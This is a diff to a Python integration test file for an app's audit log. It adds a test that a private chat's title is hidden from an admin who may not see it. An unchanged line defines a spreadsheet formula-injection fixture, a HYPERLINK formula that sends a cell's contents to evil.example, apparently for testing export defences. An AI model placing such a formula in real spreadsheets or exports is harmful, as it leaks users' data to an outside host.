@@ -13,7 +13,7 @@ from spacerr.domain.roles import Sharing
 from spacerr.services import arranging, audit, membership
 from tests.integration.databases import on_sqlite
 from tests.integration.replies import ADA
-from tests.integration.teams import MEMBER, joined, noted, team
+from tests.integration.teams import ADMIN, MEMBER, joined, noted, team
 
 pytestmark = pytest.mark.anyio
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
@@ -47,6 +47,22 @@ async def test_what_was_done_is_read_page_by_page_newest_first(d):
     shown = [it.id for page in (first, second, third) for it in page.entries]
     assert len(set(shown)) == AUDIT_PAGE * 2 + 1
     assert shown == sorted(shown, reverse=True)
+
+
+async def test_a_chat_is_named_to_who_may_see_it(d):
+    made = await team(d)
+    shared, private = (
+        Chat(user_id=ADA, team_id=made, title=title, shared=how)
+        for title, how in (("Boats", Sharing.READ), ("Secrets", Sharing.PRIVATE))
+    )
+    admin = await joined(d, made, "Bob", ADMIN)
+    async with d.db.writing() as session:
+        session.add_all([shared, private])
+        for chat in (shared, private):
+            await audit.note(session, ADA, made, Action.LINK_MADE, subject_id=chat.id)
+    mine, theirs = await audit.page(d, ADA, made), await audit.page(d, admin, made)
+    assert mine.titles == {shared.id: "Boats", private.id: "Secrets"}
+    assert theirs.titles == {shared.id: "Boats"}
 
 
 async def test_one_kind_of_action_can_be_looked_for(d):
